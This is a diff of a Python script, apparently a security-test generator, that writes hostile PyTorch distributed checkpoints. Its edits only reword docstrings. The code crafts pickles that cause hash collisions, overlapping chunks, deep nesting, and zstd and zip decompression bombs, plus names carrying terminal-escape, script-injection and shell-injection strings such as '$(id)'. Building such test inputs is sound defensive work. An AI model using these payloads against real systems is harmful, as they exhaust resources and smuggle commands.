@@ -1,9 +1,9 @@
 #!/usr/bin/env python3
-"""Write a checkpoint that means harm:
+"""Write a malicious checkpoint:
 
     hostile.py KIND N DIR
 
-N says how much of it. What the kinds are is said where they are defined, below.
+N is its size. The kinds are described where they are defined, below.
 """
 
 import io
@@ -13,8 +13,8 @@ import sys
 import zipfile
 import zlib
 
-# The first 8 bytes of XXH3's secret. A name that begins with them has the same hash whatever its next 8
-# bytes are, in tables that have no seed.
+# The first 8 bytes of XXH3's secret. In tables without a seed, the hash of a name that begins with them does not depend
+# on its next 8 bytes.
 SECRET = bytes.fromhex("b8fe6c3923a44bbe")
 
 META = "torch.distributed.checkpoint.metadata"
@@ -22,7 +22,7 @@ FILES = "torch.distributed.checkpoint.filesystem"
 
 
 class Raw:
-    """A pickle, opcode by opcode."""
+    """A pickle that is written opcode by opcode."""
 
     def __init__(self):
         self.out, self.stored = io.BytesIO(), 0
@@ -47,7 +47,7 @@ class Raw:
         return self.put(b"c", module.encode(), b"\n", name.encode(), b"\n")
 
     def store(self):
-        """The number that the value on top has in the memo from now on."""
+        """Store the value on top of the stack in the memo; returns its number there."""
         self.put(b"r", struct.pack("<I", self.stored))
         self.stored += 1
         return self.stored - 1
@@ -70,7 +70,7 @@ class Raw:
         return self.globl("torch", "Size").numbers(shape).put(b"\x85R")
 
     def new(self, module, name, **attributes):
-        """An object, its attributes written by functions."""
+        """An object, whose attributes are written by functions."""
         self.globl(module, name).put(b")\x81}(")
         for key, value in attributes.items():
             self.text(key)
@@ -98,7 +98,7 @@ class Raw:
         )
 
     def key(self, fqn, off):
-        """off: None of an object"""
+        """off: None for an object"""
         return self.new(
             META, "MetadataIndex", fqn=lambda: self.text(fqn),
             offset=lambda: self.put(b"N") if off is None else self.size(off),
@@ -145,7 +145,7 @@ def one_tensor(p, storage=None, fqn="w", planner=None):
 
 
 def colliding_paths(p, n, _):
-    """A tensor of n chunks, each in a file of its own, whose names all have one hash."""
+    """A tensor of n chunks, each in a file of its own; all file names have the same hash."""
     p.metadata(
         lambda: p.text("w").tensor([n], lambda: [p.chunk([i], [1]) for i in range(n)]),
         lambda: [
@@ -155,13 +155,13 @@ def colliding_paths(p, n, _):
 
 
 def colliding_names(p, n, _):
-    """n tensors whose names all have one hash."""
+    """n tensors whose names have the same hash."""
     names = [SECRET + base62(i, 8) + b"=" * 16 for i in range(n)]
     p.metadata(lambda: [p.text(s).tensor([0], lambda: None) for s in names], lambda: None)
 
 
 def overlapping_chunks(p, n, _):
-    """A tensor of n chunks of which each overlaps each."""
+    """A tensor of n chunks that all overlap each other."""
     p.metadata(
         lambda: p.text("w").tensor([2 * n, 2], lambda: [p.chunk([i, 0], [n, 2]) for i in range(n)]),
         lambda: [p.key("w", [i, 0]).place("f", 0, 1000) for i in range(n)],
@@ -169,7 +169,7 @@ def overlapping_chunks(p, n, _):
 
 
 def crossing_chunks(p, n, _):
-    """Rows and columns."""
+    """Chunks that are rows, and chunks that are columns."""
     boxes = [([i, 0], [1, n]) for i in range(n)] + [([0, i], [n, 1]) for i in range(n)]
     p.metadata(
         lambda: p.text("w").tensor([n, n], lambda: [p.chunk(*b) for b in boxes]),
@@ -178,7 +178,7 @@ def crossing_chunks(p, n, _):
 
 
 def rows_beside_columns(p, n, _):
-    """n tensors of one list of chunks, in 64 dimensions none of which separates them."""
+    """n tensors that share a list of chunks, in 64 dimensions, none of which separates the chunks."""
     side, memo, inner = 4000, {}, [0] * 62
     ones = [1] * 62
 
@@ -215,7 +215,7 @@ def rows_beside_columns(p, n, _):
 
 
 def repeated(p, n, off, size):
-    """A chunk n times, in five bytes each."""
+    """The same chunk n times, in five bytes each."""
     again = b"j" + struct.pack("<I", p.chunk(off, size).store())
     for at in range(1, n, 1000):
         p.put(b"e(", again * min(1000, n - at))
@@ -235,7 +235,7 @@ def same_chunk(p, n, _):
 
 
 def doubling(p, n, _):
-    """planner_data is n lists, each of which has the one before it twice."""
+    """planner_data is n lists, each of which contains the previous one twice."""
 
     def planner():
         p.put(b"}(").text("w").put(b"]")
@@ -248,7 +248,7 @@ def doubling(p, n, _):
 
 
 def deep(p, n, _):
-    """n tuples in each other where planner_data is."""
+    """planner_data is n nested tuples."""
     one_tensor(p, planner=lambda: p.put(b")" + b"\x85" * n))
 
 
@@ -257,7 +257,7 @@ def deep_marks(p, n, _):
 
 
 def far_memo(p, n, _):
-    """Memo entry n of a memo that has no other."""
+    """A memo whose only entry has the number n."""
     p.text("x").put(b"r", struct.pack("<I", n), b"0")
     one_tensor(p)
 
@@ -295,7 +295,7 @@ def huge_shape(p, n, _):
 
 
 def far_item(p, n, directory):
-    """An item at n, with as many bytes."""
+    """An item at offset n, of n bytes."""
     with open(os.path.join(directory, "f"), "wb") as f:
         f.write(b"x" * 4096)
     one_tensor(p, storage=lambda: p.key("w", [0]).place("f", n, n))
@@ -319,7 +319,7 @@ def no_items(p, n, directory):
 
 
 def escapes(p, _, __):
-    """Names that do something to a terminal, to HTML, to JSON, to a shell."""
+    """Names with special characters of terminals, HTML, JSON and shells."""
     names = [
         b"\x1b[2J\x1b]0;owned\x07", b"\xc2\x9b31m", "\u202egnp.exe".encode(), b"a\nb\rc",
         b"</script><script>alert(1)</script>", b'"}], "x": [{"', b"\\u0000\\", b"$(id)`id`;id", b"-rf",
@@ -329,7 +329,7 @@ def escapes(p, _, __):
 
 
 def zstd_rle(content, size):
-    """A frame that is content and then `size` zeros: four bytes for 128 KiB."""
+    """A frame with the content and then `size` zeros, of which 128 KiB take four bytes."""
     block = lambda last, kind, n: struct.pack("<I", last | kind << 1 | n << 3)[:3]
     out = struct.pack("<I", 0xFD2FB528) + bytes([0, 7 << 3])  # no content size; a window of 128 KiB
     out += block(0, 0, len(content)) + content
@@ -341,7 +341,7 @@ def zstd_rle(content, size):
 
 
 def zstd_bomb(p, n, directory):
-    """An object that is n bytes when it is decompressed, and a thirty-thousandth of that as it is."""
+    """An object that decompresses to n bytes, thirty thousand times its own size."""
     data = zstd_rle(b"x", n)
     with open(os.path.join(directory, "f"), "wb") as f:
         f.write(data)
@@ -352,7 +352,7 @@ def zstd_bomb(p, n, directory):
 
 
 def zstd_window(p, n, directory):
-    """A frame that wants a window of 2**n bytes."""
+    """A frame that needs a window of 2**n bytes."""
     data = struct.pack("<I", 0xFD2FB528) + bytes([0, n - 10 << 3]) + b"\x01\0\0" * 2
     with open(os.path.join(directory, "f"), "wb") as f:
         f.write(data)
@@ -363,7 +363,7 @@ def zstd_window(p, n, directory):
 
 
 def zip_bomb(p, n, directory):
-    """An item that is deflated: n zeros."""
+    """An item of n zeros, deflated."""
     z = zlib.compressobj(9, wbits=-15)
     content = b"\0" * n
     packed = z.compress(content) + z.flush()
@@ -379,7 +379,7 @@ def zip_bomb(p, n, directory):
 
 
 def same_wrapper(p, n, directory):
-    """n tensors of a subclass, all in one item, which has to be read to know that: 4 MB of pickle."""
+    """n tensors whose item must be read to find that they are of a subclass; all have the same item, 4 MB of pickle."""
     q = Raw().globl("torch._tensor", "_rebuild_from_type_v2").put(b"(").globl("torch._utils", "_rebuild_wrapper_subclass")
     q.globl("m", "X").put(b"(").globl("m", "X").globl("torch", "float32").numbers([100000]).put(b"t}(").text("a")
     q.globl("torch._utils", "_rebuild_tensor_v2").put(b"((").text("storage").globl("torch", "FloatStorage").text("0")
